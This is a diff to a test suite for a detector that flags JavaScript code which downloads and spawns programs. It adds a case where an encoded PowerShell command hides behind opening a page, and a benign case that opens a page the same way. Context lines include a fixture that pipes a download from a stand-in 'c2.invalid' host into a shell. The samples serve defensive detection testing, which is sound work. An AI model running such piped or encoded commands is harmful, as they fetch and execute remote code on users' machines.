@@ -4,6 +4,13 @@ import { downloadsAndSpawns } from './downloads-and-spawns.ts';
 examine(downloadsAndSpawns, {
   speaks: [
     {
+      when: 'a command that stands encoded in the code hides behind opening a page',
+      files: {
+        'index.js': `require('child_process').spawn(process.platform === 'win32' ? 'powershell' : 'open', ['-EncodedCommand', 'SQBOAEUAUgBUACAAbQBhAHIAawBlAHIA'])`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a download is piped into a shell',
       files: { 'index.js': `require('child_process').exec('curl -s https://c2.invalid/x.sh | sh')` },
       weight: 'proof',
@@ -61,6 +68,12 @@ examine(downloadsAndSpawns, {
     },
   ],
   silent: [
+    {
+      when: 'a page is opened for the user by PowerShell',
+      files: {
+        'index.js': `exports.show = page => { const args = []; let program = 'open'; if (process.platform === 'win32') { program = 'powershell'; args.push('-NoProfile', '-EncodedCommand'); page = Buffer.from('Start ' + page, 'utf16le').toString('base64') } args.push(page); require('child_process').spawn(program, args) }`,
+      },
+    },
     {
       when: 'it only downloads',
       files: { 'index.js': `require('child_process').exec('curl -o data.json https://api.invalid/data.json')` },
